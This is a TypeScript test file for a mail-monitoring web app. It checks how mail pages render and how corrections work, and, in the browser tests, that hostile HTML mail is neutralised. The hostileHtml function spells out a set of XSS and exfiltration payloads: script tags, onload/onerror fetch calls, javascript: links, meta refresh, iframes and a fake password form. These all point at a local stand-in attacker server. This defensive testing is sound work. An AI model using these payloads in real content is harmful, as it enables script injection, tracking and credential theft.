import { expect, it } from '@jest/globals';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { inTenant } from '../../src/db/transaction.ts';
import type { List, MseAnswer } from '../support/api-shapes.ts';
import { BrowserSession } from '../support/browser-session.ts';
import { findAxeFaults, photograph, scrollsSideways, useChromium } from '../support/chromium.ts';
import { onBothDatabases, type TestDatabase } from '../support/databases.ts';
import { describeWith } from '../support/describe-with.ts';
import { openWorld, type MailText } from '../support/world.ts';

async function openMail(database: TestDatabase, mail: MailText) {
  const world = await openWorld(database);
  const acme = await world.addTenant('acme');
  await world.addUser(acme, 'ana');
  const api = await world.api(acme);
  await world.deliver(acme, mail);
  const [mse] = (await api.get<List<MseAnswer>>('/mses')).body.items;
  if (!mse) throw new Error('a mail was expected');
  return { world, acme, api, mse };
}

const DISK: MailText = {
  subject: 'PROBLEM: disk =?utf-8?q?vo=C3=BCll?= :critical: :sched-perday-x:',
  from: 'Monitor <monitor@tools.example>',
  headers: ['X-Tool: =?utf-8?q?gr=C3=BCn?=', 'To: night shift <ops@acme.example>'],
  body: 'db1 <b>is</b> full\n:svr:db1:',
};

/** Everything that a mail could use to run something, load something or send something. */
function hostileHtml(evil: string): string {
  return `<html><head><title>t</title><meta http-equiv="refresh" content="0;url=${evil}/meta"><base href="${evil}/base/">
    <link rel="stylesheet" href="${evil}/link.css"><style>@import url(${evil}/import.css); body{background:url(${evil}/body)}</style>
    <script src="${evil}/script.js"></script></head>
    <body background="${evil}/background" onload="fetch('${evil}/onload')">
    <p>Report of the night</p>
    <img src="${evil}/pixel.png" alt="tracking pixel" onerror="fetch('${evil}/onerror')"><img srcset="${evil}/srcset.png 2x">
    <script>fetch('${evil}/inline')</script><svg onload="fetch('${evil}/svg')"><image href="${evil}/svgimage"/><script>fetch('${evil}/svgscript')</script></svg>
    <math><mtext><img src="${evil}/math"></mtext></math>
    <div style="background-image:url('${evil}/style'); color: red; position: fixed; top: 0">styled</div>
    <iframe src="${evil}/iframe"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed"><video src="${evil}/video" autoplay></video>
    <form action="${evil}/form"><input name="password"><button id="steal">Sign in</button></form>
    <a href="javascript:fetch('${evil}/js')" id="js">run</a> <a href="${evil}/runbook" id="out">the runbook</a> <a href="data:text/html,<script>1</script>">data</a>
    <table background="${evil}/table"><tr><td bgcolor="#eeeeee" style="padding: 4px">cell</td></tr></table>
    </body></html>`;
}

/** Counts whoever comes: nobody must. */
async function listenForVisits() {
  const visits: string[] = [];
  const server = http.createServer((request, response) => {
    visits.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    visits,
    close: async () => new Promise((resolve) => server.close(resolve)),
  };
}

onBothDatabases('The page of a mail', (database) => {
  it('shows text, headers and source by links, with what was found and what was meant as a tag', async () => {
    const { world, acme, api, mse } = await openMail(database, DISK);
    await world.deliver(acme, { ...DISK, body: 'db2 <b>is</b> full' });
    const session = await BrowserSession.signIn(world.baseUrl, 'ana@acme.example');
    const show = async (view: string) => (await session.get(`/mses/${mse.id}?view=${view}`)).text();
    const text = await show('text');
    expect(text).toContain('db1 &lt;b&gt;is&lt;/b&gt; full\n<mark>:svr:db1:</mark>');
    expect(text).toContain('is no schedule tag');
    expect(text).toContain('About 2 mails have this shape.');
    expect(text).toContain('<p><var title="varies">db1</var> &lt;b&gt;is&lt;');
    expect(text).toContain('tag :critical: in the subject');
    expect(text).toContain(`/rules/new?mse=${mse.id}`);
    expect(text).toContain(`/events/${mse.eventId}`);
    expect(await show('headers')).toContain('grün');
    expect(await show('raw')).toContain('X-Tool: &#x3D;?utf-8?q?gr&#x3D;C3&#x3D;BCn?&#x3D;');
    const raw = await session.get(`/mses/${mse.id}/raw`);
    expect(raw.headers.get('content-disposition')).toContain('attachment');
    expect(await raw.text()).toBe((await api.get<string>(`/mses/${mse.id}/raw`)).body);
    for (const path of ['/mses/no-such', '/mses/no-such/html', `/mses/${mse.eventId}/raw`]) {
      expect((await session.get(path)).status).toBe(404);
    }
  });

  it('puts a finding right by a plain form, and keeps what was typed wrongly at its field', async () => {
    const { world, api, mse } = await openMail(database, DISK);
    const session = await BrowserSession.signIn(world.baseUrl, 'ana@acme.example');
    const fields = { _method: 'patch', _form: `fix-org-${mse.id}`, _back: `/mses/${mse.id}` };
    const refused = await session.post(`/mses/${mse.id}`, { ...fields, org: 'Shop and more' });
    expect(refused.headers.get('location')).toBe(`/mses/${mse.id}`);
    const html = await (await session.get(`/mses/${mse.id}`)).text();
    expect(html).toMatch(/name="org" value="Shop and more"[^>]*aria-invalid="true"/);
    expect(html).toContain('Use a path such as shop.frontend.api.');
    expect((await session.post(`/mses/${mse.id}`, { ...fields, org: 'shop.db' })).status).toBe(303);
    expect((await api.get<MseAnswer>(`/mses/${mse.id}`)).body).toMatchObject({
      org: 'shop.db',
      sources: { org: 'human', severity: 'tag' },
    });
  });

  it('tells what the other sources would have said, and keeps what a person replaced', async () => {
    const { world, acme, api, mse } = await openMail(database, {
      subject: 'PROBLEM: disk full :critical: :org:shop.db: :svr:db1.example.com:',
    });
    await api.send('POST', '/rules', {
      name: 'disks are warnings',
      condition: { field: 'subject', op: 'contains', value: 'disk' },
      actions: { severity: 'warn' },
    });
    const messageId = await world.deliver(acme, {
      subject: 'PROBLEM: disk full :critical: :org:shop.db: :svr:db1.example.com:',
    });
    const session = await BrowserSession.signIn(world.baseUrl, 'ana@acme.example');
    const found = await api.get<List<MseAnswer>>(`/mses?messageId=${encodeURIComponent(messageId)}`);
    const [ruled] = found.body.items;
    const html = await (await session.get(`/mses/${ruled?.id}`)).text();
    expect(html).toContain('The rule would have said <b>warn</b> (certain): rule “disks are warnings”');

    const corrected = await api.send('PATCH', `/mses/${mse.id}`, { severity: 'info', org: 'shop.disks' });
    expect(corrected.body).toMatchObject({
      others: [
        { field: 'severity', source: 'tag', value: 'critical' },
        { field: 'org', source: 'tag', value: 'shop.db' },
      ],
    });
    const again = await api.send('PATCH', `/mses/${mse.id}`, { severity: 'warn' });
    expect(again.body).toMatchObject({ others: [{ value: 'critical' }, { value: 'shop.db' }] });
  });

  describeWith('Chromium', 'in a browser', (executable) => {
    const browser = useChromium(executable);

    it('runs nothing of hostile HTML and asks nobody outside for anything', async () => {
      const evil = await listenForVisits();
      const { world, mse } = await openMail(database, {
        subject: 'nightly report',
        headers: ['MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8'],
        body: hostileHtml(evil.url),
      });
      const page = await browser.signIn(world, 'ana@acme.example');
      const asked: string[] = [];
      page.on('request', (request) => asked.push(request.url()));
      await page.goto(`/mses/${mse.id}?view=html`);
      const frame = page.frameLocator('iframe');
      await frame.locator('text=Report of the night').waitFor();
      expect(await page.getAttribute('iframe', 'sandbox')).not.toMatch(/script|same-origin|forms|top/);
      expect(await frame.locator('body').textContent()).toContain('2 remote pictures are not loaded');
      expect(await frame.locator('text=[picture: tracking pixel]').count()).toBe(1);
      for (const gone of [
        'script',
        'svg',
        'iframe',
        'object',
        'form',
        'input',
        'base',
        'meta[http-equiv]',
        'link',
      ]) {
        expect([gone, await frame.locator(gone).count()]).toEqual([gone, 0]);
      }
      await frame.locator('text=run').first().click();
      // The frame alone is as harmless as in its page.
      const alone = await page.goto(`/mses/${mse.id}/html`);
      expect(alone?.headers()['content-security-policy']).toContain("default-src 'none'");
      expect(await page.locator('#out, a[href]').first().getAttribute('href')).toBe(`${evil.url}/runbook`);
      await page.waitForLoadState('networkidle');
      expect(asked.filter((url) => !url.startsWith(world.baseUrl))).toEqual([]);
      expect(evil.visits).toEqual([]);
      await evil.close();
    });

    it('looks right in both colour schemes and on a phone', async () => {
      const { world, acme, mse } = await openMail(database, DISK);
      const clues = [
        { text: 'host “db1.prod.shop.example.com”', weight: 2.4 },
        { text: '“voüll”', weight: 0.31 },
        { text: `sender “${'monitor-of-the-night'.repeat(3)}…”`, weight: -0.8 },
      ];
      const org = { value: 'shop.db', source: 'model', confidence: 0.97, reason: 'learnt', clues };
      await inTenant(database.get().dataSource, acme.id, (tx) =>
        tx.query("update mses set org = 'shop.db', orgs = '{shop.db}', findings = findings || $1::jsonb", [
          JSON.stringify({ org }),
        ]),
      );
      for (const look of [{}, { colorScheme: 'dark' }, { width: 390 }] as const) {
        const page = await browser.signIn(world, 'ana@acme.example', look);
        for (const view of ['text', 'headers']) {
          await page.goto(`/mses/${mse.id}?view=${view}`);
          expect(await findAxeFaults(page)).toEqual([]);
          expect(await scrollsSideways(page)).toBe(false);
          await photograph(page, `mse-${view}-${Object.values(look).join('') || 'wide'}`);
        }
        await page.goto('/events/48121');
        expect(await findAxeFaults(page)).toEqual([]);
        await photograph(page, `problem-404-${Object.values(look).join('') || 'wide'}`);
      }
    });
  });
});
